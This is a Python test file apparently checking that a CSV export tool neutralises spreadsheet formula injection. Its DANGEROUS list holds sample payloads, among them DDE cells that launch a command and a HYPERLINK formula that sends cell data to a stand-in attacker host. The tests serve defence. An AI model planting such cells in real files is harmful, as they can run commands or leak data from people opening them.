"""Cells that no spreadsheet runs."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from dupdetect.engines.copying import copy_into_file
from dupdetect.readers import expand
from dupdetect.writers.cells import inert

DANGEROUS = [
    "=1+1", "=cmd|' /C calc'!A0", "+1+1", "-1+cmd|' /C calc'!A0", "@SUM(1)", "\t=1", "\r=1", " =1",
    "\u00a0=1", "＝1+1", '=HYPERLINK("http://evil.example/?"&A1)', "- a dialogue",
]  # fmt: skip


@pytest.mark.parametrize("cell", DANGEROUS)
def test_formulas_become_text(cell: str) -> None:
    assert inert(cell) == f"'{cell}"


@pytest.mark.parametrize("cell", ["", "a text", "-12", "+3,5", "-1.5e-3", "1=1", "a@b.example"])
def test_other_cells_stay(cell: str) -> None:
    assert inert(cell) == cell


def test_a_filtered_csv_file_holds_no_formula(tmp_path: Path) -> None:
    with (tmp_path / "in.csv").open("w", newline="", encoding="utf-8") as file:
        rows = [["=id", "text"], *([f"={n}", cell] for n, cell in enumerate(DANGEROUS))]
        csv.writer(file).writerows(rows)
    files = expand([tmp_path / "in.csv"], pytest.fail)
    copy_into_file(files, [set(range(1, len(DANGEROUS) + 1))], tmp_path / "out.csv")
    with (tmp_path / "out.csv").open(newline="", encoding="utf-8") as file:
        copied = list(csv.reader(file))
    assert copied[0] == ["'=id", "text"]
    assert [row[1] for row in copied[1:]] == [f"'{cell}" for cell in DANGEROUS]
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for r in copied for cell in r)
